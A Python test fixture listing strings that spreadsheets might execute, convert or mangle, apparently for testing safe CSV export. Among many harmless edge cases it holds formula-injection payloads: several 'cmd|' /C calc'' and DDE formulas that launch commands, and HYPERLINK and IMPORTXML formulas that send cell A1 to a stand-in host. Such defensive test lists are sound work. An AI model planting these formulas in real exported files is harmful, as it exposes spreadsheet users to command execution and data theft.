"""Texts that a spreadsheet would run, convert or damage: the list of the reference (review workflow §5.1, libraries §6)."""

PAYLOADS = (
    "=1+1", "+1", "-1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫a", "−5", "–5", "\u200b=1+1", "\u200e\u202e=1+1", "\ufeff=1+1",
    "\u2060\u00ad=1", "\u3164=1", "x;=1+1", "x,=1+1", "x\t=1+1", "x\n=1+1", "x\r\n=1+1", "x;\u200b＝1+1",
    'a";=1+1;"b', "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "x;-2+3+cmd|' /C calc'!A0;y",
    '=HYPERLINK("http://contoh.invalid/?x="&A1;"klik")', "=IMPORTXML(CONCAT(\"http://contoh.invalid/\",A1))",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", "''=1+1", "'", "'teks", "''", "@akun_kampanye mantap", "-", "+", "=", "@",
    "02", "0101", "198501012010011001", "1723456789012345678", "1e5", "12345678e9012345", "1,5", "1.234,56", "1/2", "1-2",
    "2024-02-14", "14/02/2024", "mei 24", "3 maret", "14 Februari 2024", "Sep-1", "12:30", "50%", "Rp 5.000", "TRUE", "salah",
    "BENAR", "(5)", "#1", "#REF!", "http://contoh.invalid", "www.contoh.invalid", "mailto:a@contoh.invalid", "_x0041_", "_x000D_",
    "␀", "␦", "␦␦", "␦x", "␦=1", "␍", "\x1b[31mmerah", "a\x00b", "a\x0bb", "\x7f", "\x85a", "\ud83d", "\ufffe", "\uffff", "👍🏽",
    "👩‍👩‍👧", "Halo, @budi (teman)", "teks\nbaris dua\n- butir", "akhir spasi ", " awal spasi", "dua  spasi", "\u202eterbalik",
    "e\u0301\u0301\u0301", "\u2028garis", "a\u2029b", '"', '""', ';', ',', "\\", "\\n", "{=1+1}", "sep=;", "ID", "", " ", "\n", "\t",
)  # fmt: skip
